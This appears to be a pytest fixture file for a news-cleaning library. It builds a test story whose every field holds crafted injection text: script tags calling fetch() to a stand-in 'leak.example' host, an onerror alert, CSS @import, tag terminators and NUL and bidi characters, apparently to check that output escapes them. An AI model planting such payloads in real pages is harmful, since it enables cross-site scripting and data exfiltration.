"""Stories to show: the flood of the seeds, and one with hostile text in every field."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

import newsclean
from newsclean import Story
from newsclean.records import Block, Cleaned, Dropped, Metadata, Passage, Provenance, Removal, Span, Variant

SEEDS = Path(__file__).parents[2] / "seeds"
LEAK = "http://leak.example"


class Hostile(NamedTuple):
    """A story, and for each of its fields the text that a reader must see."""

    story: Story
    shown: dict[str, str]


@pytest.fixture(scope="session")
def flood() -> Story:
    return newsclean.consolidate(
        [newsclean.Source(path.read_text("utf-8"), path.name) for path in sorted(SEEDS.glob("flood-*.txt"))]
    )


@pytest.fixture(scope="session")
def hostile() -> Hostile:
    """Script tags, quotes that close attributes, entities, an end of comment and of style, NUL and bidi marks."""
    shown: dict[str, str] = {}

    def evil(field: str) -> str:
        text = (
            f"{field}'\"><script>fetch('{LEAK}/{field}')</script><img src={LEAK}/{field}.png onerror=alert(1)>"
            f"</style></title>--><style>@import '{LEAK}/{field}.css'</style>&lt;b&#62;"
        )
        shown[field] = f"{text}U+0000U+202EU+2066U+200Fend"
        return f"{text}\x00\u202e\u2066\u200fend"

    first, second = evil("first id"), evil("second id")
    text, other, gone = evil("text"), evil("other"), evil("dropped")
    here, there = Passage(text, first, Span(0, len(text))), Passage(other, second, Span(0, len(other)))
    metadata = Metadata(evil("title"), evil("date"), evil("author"), evil("site"), evil("language"), None, evil("url"))
    page = Cleaned((Block(text, here.span),), (), text, metadata)
    story = Story(
        text,
        (Provenance(here.span, (here, there)),),
        (Dropped(Passage(gone, second, Span(0, len(gone))), here.span, 0.9, evil("extra")),),
        (Variant((here, there), (evil("difference"),)),),
        (Removal(evil("removed"), Span(0, 9), evil("rule"), evil("evidence"), 0.9, evil("path"), first),),
        (evil("note"),),
        (page, page),
        (first, second),
    )
    return Hostile(story, {field: seen for field, seen in shown.items() if field not in ("language", "path")})
